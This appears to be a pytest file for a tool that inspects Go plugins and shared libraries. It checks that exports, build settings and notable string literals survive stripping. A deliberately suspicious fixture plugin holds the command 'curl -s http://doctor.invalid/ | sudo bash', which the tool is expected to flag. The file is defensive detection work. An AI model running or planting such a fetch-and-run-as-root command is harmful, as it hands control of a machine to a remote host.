"""What is told of plugins that real toolchains built, of any version and however stripped."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from engine.modules.filekind import Kind
from engine.modules.gofacts import GoFacts
from engine.modules.inspection import Inspection, inspect
from tests.go.workshop import GO, OTHER_GO, ROOT, Workshop

MODULES = ROOT / "fixtures" / "modules"
GOARCH = {GO: "7b9a2421284ba44d", OTHER_GO: "864fe6919f5b7eb7"}
"""Fingerprint of internal/goarch, which is the same wherever a release was unpacked."""


def doctor(workshop: Workshop, go: str) -> Path:
    """The doctor, built by that toolchain."""
    return workshop.plugin(f"doctor-{go}.so", source=str(MODULES / "doctor"), go=go)


def go_of(found: Inspection) -> GoFacts:
    """The Go part of an inspection without faults."""
    assert found.faults == []
    assert found.go is not None
    return found.go


def without_sections(path: Path) -> Path:
    """A copy without section headers, as the loader accepts it."""
    content = bytearray(path.read_bytes())
    content[40:48], content[58:64] = bytes(8), bytes(6)
    bare = path.with_suffix(".bare.so")
    bare.write_bytes(content)
    return bare


@pytest.mark.parametrize("go", [GO, OTHER_GO])
@pytest.mark.parametrize("form", ["built", "stripped", "without sections"])
def test_a_plugin_tells_the_same_in_every_form(workshop: Workshop, go: str, form: str) -> None:
    path = doctor(workshop, go)
    if form != "built":
        path = workshop.stripped(path, f"doctor-{go}-stripped.so")
    if form == "without sections":
        path = without_sections(path)
    found = inspect(path)
    facts = go_of(found)
    assert (found.kind, found.loadable) == (Kind.GO_PLUGIN, True)
    assert (facts.toolchain.release, facts.path) == (f"go{go}", "example.com/doctor")
    assert (facts.toolchain.trimmed, facts.toolchain.instrumented) == (False, ())
    assert facts.linked == ("os/exec",)
    assert (len(facts.packages), len(facts.init)) == (68, 18)
    assert facts.packages[0] == "internal/goarch"
    assert facts.fingerprints["internal/goarch"].hex() == GOARCH[go]
    assert facts.init[-1] == ("example.com/doctor", 2)
    assert facts.build is not None
    (dependency,) = facts.build.dependencies
    assert (dependency.path, dependency.version) == ("example.com/report", "v1.0.0")
    assert dependency.replacement is not None
    assert dependency.replacement.path == "../report"
    assert facts.build.settings["-buildmode"] == "plugin"
    assert found.elf is not None
    assert (found.elf.constructors, found.elf.imports) == (2, ())


@pytest.mark.parametrize("go", [GO, OTHER_GO])
def test_exports_types_and_methods_decode_identically(workshop: Workshop, go: str) -> None:
    stripped = workshop.stripped(doctor(workshop, go), f"doctor-{go}-stripped.so")
    facts = go_of(inspect(stripped))
    methods = (("HealthCheck", "func() error"), ("Poke", "func(int) (string, error)"))
    assert {each.name: (each.kind, each.looked_up, each.methods) for each in facts.exports} == {
        "Doctor": ("var", "*main.BadNastyDoctor", methods),
        "DoctorPtr": ("var", "**main.BadNastyDoctor", ()),
        "AsHealer": ("var", "*main.Healer", ()),
        "Counter": ("var", "*int", ()),
        "Table": ("var", "*map[string][]int", ()),
        "NewDoctor": ("func", "func(string) (interface { HealthCheck() error }, error)", ()),
        "Report": ("func", "func() report.Report", ()),
    }
    assert "(*BadNastyDoctor).hidden" in {each.name for each in facts.functions}


@pytest.mark.parametrize("go", [GO, OTHER_GO])
def test_the_command_is_found_with_the_function_that_runs_it(workshop: Workshop, go: str) -> None:
    stripped = workshop.stripped(doctor(workshop, go), f"doctor-{go}-stripped.so")
    notable = [each for each in go_of(inspect(stripped)).literals if each.notable]
    assert {(each.text, each.exact) for each in notable} == {
        ("bash", True),
        ('echo "curl -s http://doctor.invalid/ | sudo bash"', True),
    }
    assert {each.function for each in notable} == {"(*BadNastyDoctor).HealthCheck"}


def test_build_flags_are_told(workshop: Workshop) -> None:
    source = str(MODULES / "doctor")
    path = workshop.plugin("doctor-trimmed.so", "-trimpath", "-tags=one,two", source=source)
    facts = go_of(inspect(path))
    assert facts.toolchain.trimmed is True
    assert facts.build is not None
    assert facts.build.settings["-tags"] == "one,two"


def test_the_host_and_a_library_for_c_are_told_apart(workshop: Workshop) -> None:
    host = inspect(workshop.program("doctor-host", str(MODULES / "host")))
    assert (host.kind, host.loadable) == (Kind.GO_HOST, False)
    assert go_of(host).module_size == 592
    shared = inspect(workshop.c_shared("answer.so"))
    assert (shared.kind, shared.loadable) == (Kind.GO_C_SHARED, True)
    (answer,) = shared.c
    assert (answer.name, str(answer.signature), answer.obstacle) == ("Answer", "() -> int", "")
    assert go_of(shared).toolchain.release == f"go{GO}"
    assert go_of(shared).linked == ()


def test_a_library_for_c_tells_what_is_linked_in(workshop: Workshop) -> None:
    """It has no list of packages; the names of its functions tell, which nothing strips."""
    source = str(MODULES / "host")
    host = workshop.plugin("host-as-library.so", "-buildmode=c-shared", source=source)
    found = inspect(workshop.stripped(host, "host-as-library-stripped.so"))
    assert found.kind == Kind.GO_C_SHARED
    assert go_of(found).linked == ("plugin",)


def test_the_host_gets_what_was_told(workshop: Workshop) -> None:
    """The first symbol passes the assertion and starts its shell, the two mistakes do not."""
    host, plugin = workshop.program("doctor-host", str(MODULES / "host")), doctor(workshop, GO)

    def ask(symbol: str) -> subprocess.CompletedProcess[str]:
        command = [str(host), str(plugin), symbol]
        return subprocess.run(command, capture_output=True, text=True, timeout=60, check=False)

    good = ask("Doctor")
    assert good.returncode == 0, good.stderr
    assert good.stdout.splitlines()[0] == "curl -s http://doctor.invalid/ | sudo bash"
    assert ask("DoctorPtr").stderr == "**main.BadNastyDoctor is not a GoodDoctor\n"
    assert ask("AsHealer").stderr == "*main.Healer is not a GoodDoctor\n"
